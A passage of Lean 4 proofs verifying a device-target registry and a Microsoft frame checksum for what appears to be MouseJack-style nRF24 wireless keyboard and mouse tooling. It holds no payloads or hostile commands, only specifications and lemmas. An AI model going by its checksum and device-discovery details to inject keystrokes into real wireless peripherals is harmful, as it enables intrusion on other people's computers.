        targets_ := s.targets_.set s.targetCount_
          { address := addr.take addrLen ++ (targetAt s s.targetCount_).address.drop addrLen,
            addrLen := addrLen, channel := channel, type := type, active := true },
        notified := s.notified ++
          [[k.MSG_NRF_DEVICE_FOUND, s.targetCount_ % 256, k.typeByte type, channel, addrLen] ++
            addr.take addrLen] }) := by
  unfold addTarget
  simp only
  rw [h, if_neg (by omega : ¬ ((-1 : Int) ≥ 0)), if_neg (by omega)]

theorem targetAt_set (s s2 : State) (n : Nat) (v : MjTarget) (i : Nat)
    (h : s2.targets_ = s.targets_.set n v) :
    targetAt s2 i = if i = n ∧ n < s.targets_.length then v else targetAt s i := by
  unfold targetAt
  rw [h, getD_set_target]

theorem targetMatches_congr (s s2 : State) (addr : List Nat) (addrLen j : Nat)
    (ha : (targetAt s2 j).active = (targetAt s j).active)
    (hl : (targetAt s2 j).addrLen = (targetAt s j).addrLen)
    (hb : (targetAt s2 j).address = (targetAt s j).address) :
    targetMatches s2 addr addrLen j = targetMatches s addr addrLen j := by
  unfold targetMatches
  rw [ha, hl, hb]

theorem targetAt_channelUpdated (s : State) (i channel j : Nat) :
    targetAt (channelUpdated s i channel) j =
      if j = i ∧ i < s.targets_.length then { targetAt s i with channel := channel }
      else targetAt s j :=
  targetAt_set s _ i _ j rfl

theorem targetMatches_channelUpdated (s : State) (i channel : Nat) (addr : List Nat)
    (addrLen j : Nat) :
    targetMatches (channelUpdated s i channel) addr addrLen j = targetMatches s addr addrLen j := by
  apply targetMatches_congr <;> rw [targetAt_channelUpdated] <;> split
  all_goals first
    | rfl
    | (next h => rw [h.1])

theorem findTarget_congr (s s2 : State) (addr : List Nat) (addrLen : Nat)
    (hc : s2.targetCount_ = s.targetCount_)
    (hm : ∀ j, j < s.targetCount_ → targetMatches s2 addr addrLen j = targetMatches s addr addrLen j) :
    findTarget s2 addr addrLen = findTarget s addr addrLen := by
  rcases findTarget_cases s addr addrLen with h | ⟨i, h, hi⟩
  · rw [h, findTarget_eq_neg_one_iff]
    intro j hj
    rw [hc] at hj
    rw [hm j hj]
    exact (findTarget_eq_neg_one_iff s addr addrLen).1 h j hj
  · rw [h, findTarget_eq_iff]
    obtain ⟨h1, h2, h3⟩ := (findTarget_eq_iff s addr addrLen i).1 h
    refine ⟨by rw [hc]; exact h1, by rw [hm i h1]; exact h2, fun j hj => ?_⟩
    rw [hm j (by omega)]
    exact h3 j hj

/-- C7. When the address is already present as an active entry at index `i` (the first
matching entry below the count), `addTarget(address, len, channel, type)` returns `i`, sets
entry `i`'s channel to the given channel and changes nothing else: the count, entry `i`'s
address, length, device type and active flag, every other entry and every other static
member are unchanged, and no target-discovered record is emitted. In particular a second
`addTarget` of the same address with another channel returns `i` again, leaves the count
unchanged, emits nothing, and leaves entry `i` holding the second channel. -/
theorem addTarget_existing (k : MjConsts) (addr : List Nat) (addrLen channel : Nat)
    (type : MjDeviceType) (s : State) (i : Nat)
    (hlen : s.targetCount_ ≤ s.targets_.length)
    (hi : i < s.targetCount_) (hm : targetMatches s addr addrLen i = true)
    (hfirst : ∀ j, j < i → targetMatches s addr addrLen j = false) :
    (addTarget k addr addrLen channel type s).1 = (i : Int) ∧
    (targetAt (addTarget k addr addrLen channel type s).2 i).channel = channel ∧
    (targetAt (addTarget k addr addrLen channel type s).2 i).address = (targetAt s i).address ∧
    (targetAt (addTarget k addr addrLen channel type s).2 i).addrLen = (targetAt s i).addrLen ∧
    (targetAt (addTarget k addr addrLen channel type s).2 i).type = (targetAt s i).type ∧
    (targetAt (addTarget k addr addrLen channel type s).2 i).active = (targetAt s i).active ∧
    (∀ j, j ≠ i → targetAt (addTarget k addr addrLen channel type s).2 j = targetAt s j) ∧
    (addTarget k addr addrLen channel type s).2.targets_.length = s.targets_.length ∧
    (addTarget k addr addrLen channel type s).2.targetCount_ = s.targetCount_ ∧
    (addTarget k addr addrLen channel type s).2.notified = s.notified ∧
    (addTarget k addr addrLen channel type s).2.state_ = s.state_ ∧
    (addTarget k addr addrLen channel type s).2.msSequence_ = s.msSequence_ ∧
    (addTarget k addr addrLen channel type s).2.stopRequest_ = s.stopRequest_ ∧
    (addTarget k addr addrLen channel type s).2.taskHandle_ = s.taskHandle_ ∧
    (∀ (channel2 : Nat) (type2 : MjDeviceType),
      (addTarget k addr addrLen channel2 type2 (addTarget k addr addrLen channel type s).2).1 =
        (i : Int) ∧
      (addTarget k addr addrLen channel2 type2
        (addTarget k addr addrLen channel type s).2).2.targetCount_ = s.targetCount_ ∧
      (addTarget k addr addrLen channel2 type2
        (addTarget k addr addrLen channel type s).2).2.notified = s.notified ∧
      (targetAt (addTarget k addr addrLen channel2 type2
        (addTarget k addr addrLen channel type s).2).2 i).channel = channel2) := by
  have hf : findTarget s addr addrLen = (i : Int) :=
    (findTarget_eq_iff s addr addrLen i).2 ⟨hi, hm, hfirst⟩
  have h1 : addTarget k addr addrLen channel type s = ((i : Int), channelUpdated s i channel) :=
    addTarget_found k addr addrLen channel type s i hf
  have hil : i < s.targets_.length := by omega
  have hat : targetAt (channelUpdated s i channel) i = { targetAt s i with channel := channel } := by
    rw [targetAt_channelUpdated, if_pos ⟨rfl, hil⟩]
  rw [h1]
  simp only
  refine ⟨trivial, by rw [hat], by rw [hat], by rw [hat], by rw [hat], by rw [hat], ?_, ?_,
    rfl, rfl, rfl, rfl, rfl, rfl, ?_⟩
  · intro j hj
    rw [targetAt_channelUpdated, if_neg (fun h => hj h.1)]
  · unfold channelUpdated
    simp only [List.length_set]
  · intro channel2 type2
    have hf2 : findTarget (channelUpdated s i channel) addr addrLen = (i : Int) := by
      rw [findTarget_congr s (channelUpdated s i channel) addr addrLen rfl
        (fun j _ => targetMatches_channelUpdated s i channel addr addrLen j)]
      exact hf
    rw [addTarget_found k addr addrLen channel2 type2 _ i hf2]
    refine ⟨rfl, rfl, rfl, ?_⟩
    have hil2 : i < (channelUpdated s i channel).targets_.length := by
      unfold channelUpdated
      simp only [List.length_set]
      exact hil
    have := targetAt_channelUpdated (channelUpdated s i channel) i channel2 i
    unfold channelUpdated at this hil2 ⊢
    rw [this, if_pos ⟨rfl, hil2⟩]

theorem addTarget_existing_witness :
    (addTarget sampleConsts [1, 2, 3, 4, 5] 5 40 MjDeviceType.MJ_DEVICE_LOGITECH
      (addTarget sampleConsts [1, 2, 3, 4, 5] 5 7 MjDeviceType.MJ_DEVICE_LOGITECH
        (initState sampleConsts)).2).1 = 0 ∧
    (addTarget sampleConsts [1, 2, 3, 4, 5] 5 40 MjDeviceType.MJ_DEVICE_LOGITECH
      (addTarget sampleConsts [1, 2, 3, 4, 5] 5 7 MjDeviceType.MJ_DEVICE_LOGITECH
        (initState sampleConsts)).2).2.targetCount_ = 1 ∧
    (targetAt (addTarget sampleConsts [1, 2, 3, 4, 5] 5 40 MjDeviceType.MJ_DEVICE_LOGITECH
      (addTarget sampleConsts [1, 2, 3, 4, 5] 5 7 MjDeviceType.MJ_DEVICE_LOGITECH
        (initState sampleConsts)).2).2 0).channel = 40 :=
  have h := addTarget_existing sampleConsts [1, 2, 3, 4, 5] 5 40 MjDeviceType.MJ_DEVICE_LOGITECH
    (addTarget sampleConsts [1, 2, 3, 4, 5] 5 7 MjDeviceType.MJ_DEVICE_LOGITECH
      (initState sampleConsts)).2 0 (by decide) (by decide) (by decide) (by decide)
  ⟨h.1, h.2.2.2.2.2.2.2.2.1, h.2.1⟩

theorem take_append_take (addr rest : List Nat) (n : Nat) (h : n ≤ addr.length) :
    (addr.take n ++ rest).take n = addr.take n := by
  have hl : (addr.take n).length = n := by rw [List.length_take]; omega
  rw [List.take_append_of_le_length (by omega), List.take_take, Nat.min_self]

/-- The entries and the count after `addTarget` appended a new entry. -/
theorem addTarget_inserted (k : MjConsts) (addr : List Nat) (addrLen channel : Nat)
    (type : MjDeviceType) (s : State)
    (hcap : k.MJ_MAX_TARGETS ≤ 255) (hlen : s.targets_.length = k.MJ_MAX_TARGETS)
    (hroom : s.targetCount_ < k.MJ_MAX_TARGETS)
    (hf : findTarget s addr addrLen = -1) :
    (addTarget k addr addrLen channel type s).2.targetCount_ = s.targetCount_ + 1 ∧
    (addTarget k addr addrLen channel type s).2.targets_.length = s.targets_.length ∧
    (∀ j, j ≠ s.targetCount_ →
      targetAt (addTarget k addr addrLen channel type s).2 j = targetAt s j) ∧
    targetAt (addTarget k addr addrLen channel type s).2 s.targetCount_ =
      { address := addr.take addrLen ++ (targetAt s s.targetCount_).address.drop addrLen,
        addrLen := addrLen, channel := channel, type := type, active := true } := by
  have h1 := addTarget_new k addr addrLen channel type s hf hroom
  have hmod : (s.targetCount_ + 1) % 256 = s.targetCount_ + 1 := Nat.mod_eq_of_lt (by omega)
  rw [hmod] at h1
  have hat : ∀ j, targetAt (addTarget k addr addrLen channel type s).2 j =
      if j = s.targetCount_ ∧ s.targetCount_ < s.targets_.length then
        { address := addr.take addrLen ++ (targetAt s s.targetCount_).address.drop addrLen,
          addrLen := addrLen, channel := channel, type := type, active := true }
      else targetAt s j := by
    intro j
    apply targetAt_set
    rw [h1]
  refine ⟨by rw [h1], by rw [h1]; simp only [List.length_set], ?_, ?_⟩
  · intro j hj
    rw [hat j, if_neg (fun h => hj h.1)]
  · rw [hat s.targetCount_, if_pos ⟨rfl, by omega⟩]

/-- C9. When the count `c` is below capacity and the address (length `n`, all `n` bytes
supplied) is not present as an active entry, `addTarget(address, n, channel, type)` returns
`c`, leaves every other entry (in particular entries `0 .. c-1`) unchanged, makes entry `c`
active with exactly the given address, length, channel and type, raises the count to
`c + 1`, and emits exactly one target-discovered record,
`[opcode, c, type, channel, n, address[0..n)]`, of length `5 + n`; the address is then
found at index `c`. -/
theorem addTarget_new_entry (k : MjConsts) (addr : List Nat) (addrLen channel : Nat)
    (type : MjDeviceType) (s : State)
    (hcap : k.MJ_MAX_TARGETS ≤ 255) (hlen : s.targets_.length = k.MJ_MAX_TARGETS)
    (hroom : s.targetCount_ < k.MJ_MAX_TARGETS)
    (haddr : addrLen ≤ addr.length)
    (habsent : ∀ j, j < s.targetCount_ → targetMatches s addr addrLen j = false) :
    (addTarget k addr addrLen channel type s).1 = (s.targetCount_ : Int) ∧
    (∀ j, j ≠ s.targetCount_ →
      targetAt (addTarget k addr addrLen channel type s).2 j = targetAt s j) ∧
    (targetAt (addTarget k addr addrLen channel type s).2 s.targetCount_).active = true ∧
    (targetAt (addTarget k addr addrLen channel type s).2 s.targetCount_).address.take addrLen =
      addr.take addrLen ∧
    (targetAt (addTarget k addr addrLen channel type s).2 s.targetCount_).addrLen = addrLen ∧
    (targetAt (addTarget k addr addrLen channel type s).2 s.targetCount_).channel = channel ∧
    (targetAt (addTarget k addr addrLen channel type s).2 s.targetCount_).type = type ∧
    (addTarget k addr addrLen channel type s).2.targetCount_ = s.targetCount_ + 1 ∧
    (addTarget k addr addrLen channel type s).2.targets_.length = s.targets_.length ∧
    (addTarget k addr addrLen channel type s).2.notified =
      s.notified ++ [[k.MSG_NRF_DEVICE_FOUND, s.targetCount_, k.typeByte type, channel, addrLen] ++
        addr.take addrLen] ∧
    ([k.MSG_NRF_DEVICE_FOUND, s.targetCount_, k.typeByte type, channel, addrLen] ++
        addr.take addrLen).length = 5 + addrLen ∧
    findTarget (addTarget k addr addrLen channel type s).2 addr addrLen = (s.targetCount_ : Int) := by
  have hf : findTarget s addr addrLen = -1 := (findTarget_eq_neg_one_iff s addr addrLen).2 habsent
  have h1 := addTarget_new k addr addrLen channel type s hf hroom
  have hmod2 : s.targetCount_ % 256 = s.targetCount_ := Nat.mod_eq_of_lt (by omega)
  rw [hmod2] at h1
  obtain ⟨hcount, hlength, hother, hnew⟩ :=
    addTarget_inserted k addr addrLen channel type s hcap hlen hroom hf
  refine ⟨by rw [h1], hother, by rw [hnew], ?_, by rw [hnew], by rw [hnew], by rw [hnew], hcount,
    hlength, by rw [h1], ?_, ?_⟩
  · rw [hnew]
    exact take_append_take addr _ addrLen haddr
  · rw [List.length_append, List.length_take]
    simp only [List.length_cons, List.length_nil]
    omega
  · rw [findTarget_eq_iff]
    refine ⟨by rw [hcount]; omega, ?_, ?_⟩
    · unfold targetMatches
      rw [hnew]
      simp only [Bool.true_and, decide_True]
      rw [take_append_take addr _ addrLen haddr]
      simp
    · intro j hj
      rw [targetMatches_congr s _ addr addrLen j (by rw [hother j (by omega)])
        (by rw [hother j (by omega)]) (by rw [hother j (by omega)])]
      exact habsent j hj

theorem addTarget_new_entry_witness :
    addTarget sampleConsts [1, 2, 3, 4, 5] 5 7 MjDeviceType.MJ_DEVICE_LOGITECH
        (initState sampleConsts) =
      (0, { initState sampleConsts with
        targetCount_ := 1,
        targets_ := [⟨[1, 2, 3, 4, 5], 5, 7, MjDeviceType.MJ_DEVICE_LOGITECH, true⟩,
          zeroTarget, zeroTarget, zeroTarget],
        notified := [[0xD0, 0, 3, 7, 5, 1, 2, 3, 4, 5]] }) ∧
    (addTarget sampleConsts [1, 2, 3, 4, 5] 5 7 MjDeviceType.MJ_DEVICE_LOGITECH
      (initState sampleConsts)).2.targetCount_ = (initState sampleConsts).targetCount_ + 1 :=
  ⟨by decide,
    (addTarget_new_entry sampleConsts [1, 2, 3, 4, 5] 5 7 MjDeviceType.MJ_DEVICE_LOGITECH
      (initState sampleConsts) (by decide) (by decide) (by decide) (by decide)
      (by decide)).2.2.2.2.2.2.2.1⟩

/-- C10. When the registry holds `MJ_MAX_TARGETS` entries, `addTarget` of an address that
is not present returns -1 and leaves the whole state unchanged (all entries, the count, no
record emitted), while `addTarget` of an address that is present at index `i` still
succeeds: it returns `i` and entry `i` then holds the given channel. -/
theorem addTarget_at_capacity (k : MjConsts) (addr : List Nat) (addrLen channel : Nat)
    (type : MjDeviceType) (s : State)
    (hlen : s.targets_.length = k.MJ_MAX_TARGETS)
    (hfull : s.targetCount_ = k.MJ_MAX_TARGETS) :
    ((∀ j, j < s.targetCount_ → targetMatches s addr addrLen j = false) →
      addTarget k addr addrLen channel type s = (-1, s)) ∧
    (∀ i, i < s.targetCount_ → targetMatches s addr addrLen i = true →
      (∀ j, j < i → targetMatches s addr addrLen j = false) →
      (addTarget k addr addrLen channel type s).1 = (i : Int) ∧
      (targetAt (addTarget k addr addrLen channel type s).2 i).channel = channel ∧
      (addTarget k addr addrLen channel type s).2.targetCount_ = s.targetCount_ ∧
      (addTarget k addr addrLen channel type s).2.notified = s.notified) := by
  constructor
  · intro habsent
    exact addTarget_full k addr addrLen channel type s
      ((findTarget_eq_neg_one_iff s addr addrLen).2 habsent) (by omega)
  · intro i hi hm hfirst
    have hf : findTarget s addr addrLen = (i : Int) :=
      (findTarget_eq_iff s addr addrLen i).2 ⟨hi, hm, hfirst⟩
    have h1 : addTarget k addr addrLen channel type s = ((i : Int), channelUpdated s i channel) :=
      addTarget_found k addr addrLen channel type s i hf
    rw [h1]
    refine ⟨rfl, ?_, rfl, rfl⟩
    rw [targetAt_channelUpdated, if_pos ⟨rfl, by omega⟩]

theorem addTarget_at_capacity_witness :
    sampleFull.targetCount_ = sampleConsts.MJ_MAX_TARGETS ∧
    addTarget sampleConsts [9, 9, 9, 9, 9] 5 77 MjDeviceType.MJ_DEVICE_LOGITECH sampleFull =
      (-1, sampleFull) ∧
    (addTarget sampleConsts [3, 3, 3, 3, 3] 5 77 MjDeviceType.MJ_DEVICE_LOGITECH sampleFull).1 = 2 ∧
    (targetAt (addTarget sampleConsts [3, 3, 3, 3, 3] 5 77 MjDeviceType.MJ_DEVICE_LOGITECH
      sampleFull).2 2).channel = 77 :=
  ⟨by decide,
    (addTarget_at_capacity sampleConsts [9, 9, 9, 9, 9] 5 77 MjDeviceType.MJ_DEVICE_LOGITECH
      sampleFull (by decide) (by decide)).1 (by decide),
    ((addTarget_at_capacity sampleConsts [3, 3, 3, 3, 3] 5 77 MjDeviceType.MJ_DEVICE_LOGITECH
      sampleFull (by decide) (by decide)).2 2 (by decide) (by decide) (by decide)).1,
    by decide⟩

/-! ## The registry invariant -/

theorem targetAt_replicate (k : MjConsts) (s : State) (i : Nat) :
    targetAt (clearTargets k s) i = zeroTarget := by
  unfold targetAt clearTargets
  simp only
  by_cases h : i < (List.replicate k.MJ_MAX_TARGETS zeroTarget).length
  · rw [List.getD_eq_getElem _ _ h, List.getElem_replicate]
  · rw [List.getD_eq_default _ _ (by omega)]

theorem registryInv_clear (k : MjConsts) (s : State) : RegistryInv k (clearTargets k s) := by
  refine ⟨?_, ?_, ?_, ?_, ?_⟩
  · unfold clearTargets; simp
  · unfold clearTargets; simp
  · intro i hi
    exact absurd hi (by unfold clearTargets; simp)
  · intro i _
    rw [targetAt_replicate]
    rfl
  · intro i j hi
    exact absurd hi (by unfold clearTargets; simp)

theorem registryInv_add (k : MjConsts) (hcap : k.MJ_MAX_TARGETS ≤ 255) (s : State)
    (addr : List Nat) (addrLen channel : Nat) (type : MjDeviceType)
    (haddr : addrLen ≤ addr.length) (hinv : RegistryInv k s) :
    RegistryInv k (addTarget k addr addrLen channel type s).2 := by
  obtain ⟨hlen, hcount, hact, hinact, huniq⟩ := hinv
  rcases findTarget_cases s addr addrLen with hf | ⟨i, hf, hi⟩
  · by_cases hroom : s.targetCount_ < k.MJ_MAX_TARGETS
    · have habsent := (findTarget_eq_neg_one_iff s addr addrLen).1 hf
      obtain ⟨hncount, hnlength, hother, hnew⟩ :=
        addTarget_inserted k addr addrLen channel type s hcap hlen hroom hf
      have hnact : (targetAt (addTarget k addr addrLen channel type s).2 s.targetCount_).active =
          true := by rw [hnew]
      have hnlen : (targetAt (addTarget k addr addrLen channel type s).2 s.targetCount_).addrLen =
          addrLen := by rw [hnew]
      have hnaddr :
          (targetAt (addTarget k addr addrLen channel type s).2 s.targetCount_).address.take addrLen =
            addr.take addrLen := by
        rw [hnew]
        exact take_append_take addr _ addrLen haddr
      have hnew_ne : ∀ j, j < s.targetCount_ →
          ¬ ((targetAt s j).addrLen = addrLen ∧
            (targetAt s j).address.take addrLen = addr.take addrLen) := by
        intro j hj hh
        have := habsent j hj
        unfold targetMatches at this
        rw [hact j hj, hh.1, hh.2] at this
        simp at this
      refine ⟨by rw [hnlength]; exact hlen, by rw [hncount]; omega, ?_, ?_, ?_⟩
      · intro j hj
        rw [hncount] at hj
        by_cases hjc : j = s.targetCount_
        · rw [hjc]; exact hnact
        · rw [hother j hjc]; exact hact j (by omega)
      · intro j hj
        rw [hncount] at hj
        rw [hother j (by omega)]
        exact hinact j (by omega)
      · intro a b ha hb hab
        rw [hncount] at ha hb
        by_cases hac : a = s.targetCount_
        · have hbc : b ≠ s.targetCount_ := fun h => hab (by rw [hac, h])
          rw [hac, hother b hbc]
          unfold sameAddress
          rw [hnlen]
          by_contra hcon
          simp only [Bool.not_eq_false, Bool.and_eq_true, decide_eq_true_eq] at hcon
          apply hnew_ne b (by omega)
          refine ⟨hcon.1.symm, ?_⟩
          rw [← hnaddr, hcon.2, ← hcon.1]
        · rw [hother a hac]
          by_cases hbc : b = s.targetCount_
          · rw [hbc]
            unfold sameAddress
            rw [hnlen]
            by_contra hcon
            simp only [Bool.not_eq_false, Bool.and_eq_true, decide_eq_true_eq] at hcon
            apply hnew_ne a (by omega)
            refine ⟨hcon.1, ?_⟩
            rw [← hnaddr, ← hcon.2, hcon.1]
          · rw [hother b hbc]
            exact huniq a b (by omega) (by omega) hab
    · rw [addTarget_full k addr addrLen channel type s hf (by omega)]
      exact ⟨hlen, hcount, hact, hinact, huniq⟩
  · have e : addTarget k addr addrLen channel type s = ((i : Int), channelUpdated s i channel) :=
      addTarget_found k addr addrLen channel type s i hf
    rw [e]
    show RegistryInv k (channelUpdated s i channel)
    have hat : ∀ j, (targetAt (channelUpdated s i channel) j).active = (targetAt s j).active ∧
        (targetAt (channelUpdated s i channel) j).addrLen = (targetAt s j).addrLen ∧
        (targetAt (channelUpdated s i channel) j).address = (targetAt s j).address := by
      intro j
      rw [targetAt_channelUpdated]
      split
      · next h => rw [h.1]; exact ⟨rfl, rfl, rfl⟩
      · exact ⟨rfl, rfl, rfl⟩
    refine ⟨?_, hcount, ?_, ?_, ?_⟩
    · show (s.targets_.set i _).length = _
      rw [List.length_set]; exact hlen
    · intro j hj
      rw [(hat j).1]; exact hact j hj
    · intro j hj
      rw [(hat j).1]; exact hinact j hj
    · intro a b ha hb hab
      have := huniq a b ha hb hab
      unfold sameAddress at this ⊢
      rw [(hat a).2.1, (hat a).2.2, (hat b).2.1, (hat b).2.2]
      exact this

theorem registryInv_foldl (k : MjConsts) (hcap : k.MJ_MAX_TARGETS ≤ 255) :
    ∀ (ops : List RegistryOp) (s : State), RegistryInv k s → (∀ op ∈ ops, op.ok = true) →
      RegistryInv k (ops.foldl (applyOp k) s) := by
  intro ops
  induction ops with
  | nil => intro s h _; exact h
  | cons op rest ih =>
    intro s h hok
    rw [List.foldl_cons]
    apply ih
    · cases op with
      | add addr addrLen channel type =>
        have := hok _ (List.mem_cons_self _ _)
        unfold RegistryOp.ok at this
        simp only [decide_eq_true_eq] at this
        exact registryInv_add k hcap s addr addrLen channel type this.2.2 h
      | clear => exact registryInv_clear k s
    · intro op' hop'
      exact hok op' (List.mem_cons_of_mem _ hop')

/-- C8. In every registry state reached from `clearTargets` by a sequence of `addTarget`
calls (address length 1..5, that many address bytes supplied) and `clearTargets` calls, with
a capacity `MJ_MAX_TARGETS` that the `uint8_t` count can hold: the count never exceeds the
capacity, every entry below the count is active and every entry at or above it is inactive,
and no two active entries have the same address length and the same address bytes. -/
theorem registry_invariant (k : MjConsts) (s0 : State) (ops : List RegistryOp)
    (hcap : k.MJ_MAX_TARGETS ≤ 255) (hok : ∀ op ∈ ops, op.ok = true) :
    (runOps k s0 ops).targetCount_ ≤ k.MJ_MAX_TARGETS ∧
    (runOps k s0 ops).targets_.length = k.MJ_MAX_TARGETS ∧
    (∀ i, i < (runOps k s0 ops).targetCount_ → (targetAt (runOps k s0 ops) i).active = true) ∧
    (∀ i, (runOps k s0 ops).targetCount_ ≤ i → (targetAt (runOps k s0 ops) i).active = false) ∧
    (∀ i j, (targetAt (runOps k s0 ops) i).active = true →
      (targetAt (runOps k s0 ops) j).active = true → i ≠ j →
      ¬ ((targetAt (runOps k s0 ops) i).addrLen = (targetAt (runOps k s0 ops) j).addrLen ∧
        (targetAt (runOps k s0 ops) i).address.take (targetAt (runOps k s0 ops) i).addrLen =
          (targetAt (runOps k s0 ops) j).address.take (targetAt (runOps k s0 ops) j).addrLen)) := by
  have hinv : RegistryInv k (runOps k s0 ops) :=
    registryInv_foldl k hcap ops (clearTargets k s0) (registryInv_clear k s0) hok
  obtain ⟨hlen, hcount, hact, hinact, huniq⟩ := hinv
  refine ⟨hcount, hlen, hact, hinact, ?_⟩
  intro i j hi hj hij hsame
  have hi' : i < (runOps k s0 ops).targetCount_ := by
    by_contra hcon
    rw [hinact i (by omega)] at hi
    exact Bool.noConfusion hi
  have hj' : j < (runOps k s0 ops).targetCount_ := by
    by_contra hcon
    rw [hinact j (by omega)] at hj
    exact Bool.noConfusion hj
  have := huniq i j hi' hj' hij
  unfold sameAddress at this
  rw [decide_eq_true hsame.1, decide_eq_true hsame.2] at this
  exact Bool.noConfusion this

theorem registry_invariant_witness :
    sampleFull.targetCount_ ≤ sampleConsts.MJ_MAX_TARGETS ∧
    sampleFull.targetCount_ = 4 ∧
    (targetAt sampleFull 3).active = true ∧ (targetAt sampleFull 4).active = false :=
  have h := registry_invariant sampleConsts (initState sampleConsts)
    [RegistryOp.add [1, 1, 1, 1, 1] 5 10 MjDeviceType.MJ_DEVICE_MICROSOFT,
     RegistryOp.add [2, 2, 2, 2, 2] 5 20 MjDeviceType.MJ_DEVICE_MS_CRYPT,
     RegistryOp.add [3, 3, 3, 3, 3] 5 30 MjDeviceType.MJ_DEVICE_LOGITECH,
     RegistryOp.add [4, 4, 4, 4, 4] 5 40 MjDeviceType.MJ_DEVICE_LOGITECH] (by decide) (by decide)
  ⟨h.1, by decide, h.2.2.1 3 (by decide), h.2.2.2.1 4 (by decide)⟩

/-! ## The Microsoft checksum -/

theorem xorAll_append (l : List Nat) (a : Nat) : xorAll (l ++ [a]) = xorAll l ^^^ a := by
  unfold xorAll
  rw [List.foldl_append]
  rfl

theorem xorAll_lt (l : List Nat) (h : ∀ b ∈ l, b < 256) : xorAll l < 256 := by
  induction l using List.reverseRecOn with
  | nil => unfold xorAll; simp
  | append_singleton l a ih =>
    rw [xorAll_append]
    have h1 := ih (fun b hb => h b (List.mem_append_left _ hb))
    have h2 := h a (by simp)
    simpa using Nat.xor_lt_two_pow (n := 8) (by simpa using h1) (by simpa using h2)

theorem take_succ_getD (l : List Nat) (n : Nat) (h : n < l.length) :
    l.take (n + 1) = l.take n ++ [l.getD n 0] := by
  rw [List.take_succ, List.getD_eq_getElem?_getD, List.getElem?_eq_getElem h]
  rfl

/-- The loop of `msChecksum` computes the XOR of the first `n` bytes. -/
theorem msChecksumLoop_eq (payload : List Nat) (hb : ∀ b ∈ payload, b < 256) :
    ∀ n, n ≤ payload.length → msChecksumLoop payload n = xorAll (payload.take n) := by
  intro n
  induction n with
  | zero => intro _; rfl
  | succ n ih =>
    intro hn
    have ih' := ih (by omega)
    unfold msChecksumLoop at ih' ⊢
    rw [List.range_succ, List.foldl_append, ih', take_succ_getD payload n (by omega), xorAll_append]
    simp only [List.foldl_cons, List.foldl_nil]
    apply Nat.mod_eq_of_lt
    have h1 := xorAll_lt (payload.take n) (fun b hb' => hb b (List.mem_of_mem_take hb'))
    have h2 := getD_lt_of_forall payload hb n
    simpa using Nat.xor_lt_two_pow (n := 8) (by simpa using h1) (by simpa using h2)

theorem set_last_eq (l : List Nat) (n v : Nat) (hlen : l.length = n + 1) :
    l.set n v = l.take n ++ [v] := by
  apply list_eq_of_getD
  · rw [List.length_set, List.length_append, List.length_take]
    simp
    omega
  · intro i
    rw [getD_set_eq]
    by_cases hi : i = n
    · subst hi
      have hl : (l.take i).length = i := by rw [List.length_take]; omega
      rw [if_pos ⟨rfl, by omega⟩, List.getD_eq_getElem?_getD,
        List.getElem?_append_right (by omega), hl, Nat.sub_self]
      rfl
    · rw [if_neg (fun h => hi h.1)]
      by_cases hlt : i < n
      · rw [List.getD_eq_getElem?_getD, List.getD_eq_getElem?_getD,
          List.getElem?_append_left (by rw [List.length_take]; omega), List.getElem?_take_of_lt hlt]
      · rw [List.getD_eq_default _ 0 (by omega), List.getD_eq_default _ 0 (by
          rw [List.length_append, List.length_take]; simp; omega)]

/-- `msChecksum` keeps all bytes but the last, which becomes the complement of their XOR. -/
theorem msChecksum_eq (payload : List Nat) (n : Nat) (hlen : payload.length = n + 1)
    (hb : ∀ b ∈ payload, b < 256) :
    msChecksum payload (n + 1) = payload.take n ++ [255 - xorAll (payload.take n)] := by
  unfold msChecksum
  rw [if_neg (by omega), Nat.add_sub_cancel, msChecksumLoop_eq payload hb n (by omega)]
  exact set_last_eq payload n _ hlen

theorem not_byte_eq : ∀ x < 256, 255 - x = x ^^^ 0xFF := by decide

theorem xor_not_byte : ∀ x < 256, x ^^^ (255 - x) = 0xFF := by decide


theorem msChecksum_length (payload : List Nat) (n : Nat) : (msChecksum payload n).length = payload.length := by
  unfold msChecksum
  split
  · rfl
  · rw [List.length_set]

theorem take_append_left_len (l : List Nat) (a : Nat) (n : Nat) (h : l.length = n) :
    (l ++ [a]).take n = l := by
  rw [List.take_append_of_le_length (by omega), List.take_of_length_le (by omega)]

/-- C12. For every frame of `n ≥ 1` bytes (`size` is a `uint8_t`), `msChecksum` leaves bytes
`0 .. n-2` unchanged and sets the last byte to the bitwise NOT (on 8 bits) of the XOR of
bytes `0 .. n-2`; so the XOR of all `n` bytes of the result is 0xFF and applying
`msChecksum` twice equals applying it once; for a zero-filled 19-byte frame with byte 0 =
0x08 the checksum byte is 0xF7. -/
theorem msChecksum_spec (payload : List Nat) (n : Nat) (hlen : payload.length = n) (hn : 1 ≤ n)
    (hb : ∀ b ∈ payload, b < 256) :
    (msChecksum payload n).length = n ∧
    (∀ i, i < n - 1 → (msChecksum payload n).getD i 0 = payload.getD i 0) ∧
    (msChecksum payload n).getD (n - 1) 0 = 255 - xorAll (payload.take (n - 1)) ∧
    255 - xorAll (payload.take (n - 1)) = xorAll (payload.take (n - 1)) ^^^ 0xFF ∧
    xorAll (msChecksum payload n) = 0xFF ∧
    msChecksum (msChecksum payload n) n = msChecksum payload n ∧
    (msChecksum ((List.replicate 19 0).set 0 0x08) 19).getD 18 0 = 0xF7 := by
  obtain ⟨m, rfl⟩ : ∃ m, n = m + 1 := ⟨n - 1, by omega⟩
  have hx := xorAll_lt (payload.take m) (fun b hb' => hb b (List.mem_of_mem_take hb'))
  have heq := msChecksum_eq payload m hlen hb
  have htl : (payload.take m).length = m := by rw [List.length_take]; omega
  rw [Nat.add_sub_cancel]
  refine ⟨by rw [msChecksum_length, hlen], ?_, ?_, not_byte_eq _ hx, ?_, ?_, by decide⟩
  · intro i hi
    rw [heq, List.getD_eq_getElem?_getD, List.getD_eq_getElem?_getD,
      List.getElem?_append_left (by omega), List.getElem?_take_of_lt hi]
  · rw [heq, List.getD_eq_getElem?_getD, List.getElem?_append_right (by omega), htl, Nat.sub_self]
    rfl
  · rw [heq, xorAll_append]
    exact xor_not_byte _ hx
  · have hb2 : ∀ b ∈ msChecksum payload (m + 1), b < 256 := by
      rw [heq]
      intro b hb'
      rcases List.mem_append.1 hb' with h | h
      · exact hb b (List.mem_of_mem_take h)
      · rw [List.mem_singleton] at h
        omega
    rw [msChecksum_eq _ m (by rw [msChecksum_length, hlen]) hb2, heq,
      take_append_left_len _ _ m htl]

theorem msChecksum_spec_witness :
